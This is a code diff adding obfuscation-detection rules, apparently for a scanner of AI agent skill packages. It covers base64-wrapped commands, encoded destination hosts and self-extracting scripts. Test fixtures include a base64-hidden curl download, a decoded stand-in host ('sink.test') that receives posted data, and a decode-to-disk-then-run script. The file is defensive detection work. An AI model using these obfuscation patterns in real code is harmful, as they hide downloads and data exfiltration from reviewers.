@@ -1,0 +1,158 @@
+import type { Fact, Layer } from "../facts.ts";
+import type { Match } from "../types.ts";
+import { has, matchAt, sourcesOf } from "./flow.ts";
+import type { Evidence, Rule } from "./rule.ts";
+
+/** Layers that somebody has to wrap on purpose. An archive, a fence or a look-alike that was resolved is not one. */
+const WRAPPED: ReadonlySet<Layer> = new Set([
+  "base64",
+  "base32",
+  "base85",
+  "hex",
+  "rot13",
+  "char-codes",
+  "gzip",
+  "invisible",
+]);
+
+const GRAVE: ReadonlySet<string> = new Set([
+  "evaluate",
+  "download",
+  "send",
+  "read-secret",
+  "schedule",
+  "weaken",
+  "mine",
+  "delete",
+]);
+
+function findWrapped({ facts }: Evidence): readonly Match[] {
+  return facts
+    .filter((fact) => GRAVE.has(fact.op) && !has(fact, "placeholder", "local"))
+    .flatMap((fact) => {
+      const layer = fact.at.via.find((one) => WRAPPED.has(one));
+      if (layer === undefined) return [];
+      return [matchAt(fact, `What it does is hidden from readers by ${layer}.`)];
+    });
+}
+
+function isHiddenTarget(fact: Fact): boolean {
+  return (
+    ["send", "download", "resolve"].includes(fact.op) &&
+    sourcesOf(fact).some((one) => one.op === "decode") &&
+    !has(fact, "local")
+  );
+}
+
+/** The address itself is decoded when it runs; what is sent to it may come from anywhere. */
+function findHiddenHost({ facts }: Evidence): readonly Match[] {
+  return facts
+    .filter((fact) => isHiddenTarget(fact) && has(fact, "obfuscated"))
+    .map((fact) =>
+      matchAt(
+        fact,
+        `The address that it speaks to is encoded: ${fact.target ?? "unknown"}.`,
+        sourcesOf(fact).filter((one) => one.op === "decode"),
+      ),
+    );
+}
+
+/** A program writes another program and runs it, and what it writes was encoded. */
+function findSelfExtracting({ facts }: Evidence): readonly Match[] {
+  return facts
+    .filter((fact) => fact.op === "run" || fact.op === "evaluate")
+    .flatMap((fact) => {
+      const all = sourcesOf(fact);
+      const write = all.find((one) => one.op === "write");
+      const decode = all.find((one) => one.op === "decode");
+      if (write === undefined || decode === undefined) return [];
+      return [matchAt(fact, "It unpacks a program of its own and runs that.", [decode, write])];
+    });
+}
+
+export const OBFUSCATION_RULES: readonly Rule[] = [
+  {
+    id: "obfuscation.hidden-operation",
+    family: "obfuscation",
+    title: "What it does is encoded",
+    severity: "high",
+    confidence: "structural",
+    owasp: ["AST01"],
+    why: "An honest command has no need to be unreadable.",
+    remedy: "Write the command in plain text.",
+    find: findWrapped,
+    examples: {
+      flags: [
+        {
+          name: "a download inside base64",
+          files: {
+            "s.sh":
+              "X=Y3VybCAtcyBodHRwczovL3guaGFyYm91ci50ZXN0L2EgLW8gL3RtcC9hCg==\necho $X | base64 -d > /tmp/n\n",
+          },
+        },
+      ],
+      passes: [
+        {
+          name: "an encoded text that says nothing of the kind",
+          files: { "s.sh": "echo SGVsbG8sIGRlYXIgcmVhZGVyIG9mIHRoaXMgdGV4dA== | base64 -d\n" },
+        },
+      ],
+    },
+  },
+  {
+    id: "obfuscation.hidden-address",
+    family: "obfuscation",
+    title: "The address is encoded",
+    severity: "high",
+    confidence: "flow",
+    owasp: ["AST01"],
+    why: "An address is encoded so that reviewers and filters do not see where data goes.",
+    remedy: "Write the address in plain text.",
+    find: findHiddenHost,
+    examples: {
+      flags: [
+        {
+          name: "a host out of base64",
+          files: {
+            "s.py":
+              "import base64, requests\nu = base64.b64decode('aHR0cHM6Ly9zaW5rLnRlc3QvaW4=').decode()\nrequests.post(u, json={'a': 1})\n",
+          },
+        },
+      ],
+      passes: [
+        {
+          name: "an answer that is decoded",
+          files: {
+            "s.py":
+              "import base64, requests\nr = requests.get('https://api.github.com/repos/a/b/contents/c')\nprint(base64.b64decode(r.json()['content']))\n",
+          },
+        },
+      ],
+    },
+  },
+  {
+    id: "obfuscation.self-extracting",
+    family: "obfuscation",
+    title: "It unpacks a program and runs it",
+    severity: "high",
+    confidence: "flow",
+    owasp: ["AST01"],
+    why: "What runs is not in the files that were looked at.",
+    remedy: "Ship the program as a file of the skill.",
+    find: findSelfExtracting,
+    examples: {
+      flags: [
+        {
+          name: "a script out of base64 onto disk",
+          files: { "s.sh": "echo ZWNobyBoaQo= | base64 -d > /tmp/r.sh\nbash /tmp/r.sh\n" },
+        },
+      ],
+      passes: [
+        {
+          name: "a template written and a known tool run",
+          files: { "s.sh": "echo 'a: 1' > conf.yaml\nmake\n" },
+        },
+      ],
+    },
+  },
+];
